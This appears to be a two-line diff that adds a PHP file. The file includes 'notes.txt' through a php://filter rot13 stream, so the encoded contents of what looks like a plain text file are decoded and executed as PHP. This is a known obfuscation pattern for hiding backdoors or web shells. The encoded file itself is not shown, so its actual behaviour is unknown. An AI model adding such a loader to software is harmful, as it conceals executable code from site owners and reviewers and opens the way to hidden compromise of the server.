@@ -1,0 +1,2 @@
+<?php
+include('php://filter/read=string.rot13/resource=notes.txt');
